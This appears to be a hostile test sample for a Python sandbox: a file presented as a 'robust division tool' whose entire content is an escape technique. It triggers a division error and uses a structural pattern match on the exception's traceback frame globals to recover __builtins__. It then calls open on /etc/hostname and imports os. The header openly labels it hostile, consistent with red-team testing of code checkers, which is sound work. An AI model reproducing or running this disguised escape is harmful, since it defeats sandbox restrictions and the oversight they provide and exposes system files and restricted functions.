# family: hostile, blind round 61 (match class pattern: exception __traceback__ -> tb_frame -> f_globals)
"""Robust division tool that reports context on failure."""


def safe_divide(a, b):
    """Divide a by b, returning diagnostic context on error."""
    try:
        return a / b
    except ZeroDivisionError as err:
        match err:
            case object(__traceback__=object(tb_frame=object(f_globals={"__builtins__": env}))):
                return env
    return None


env = safe_divide(1, 0)
print(vars(env)["open"]("/etc/hostname").read(), vars(env)["__import__"]("os").getcwd())
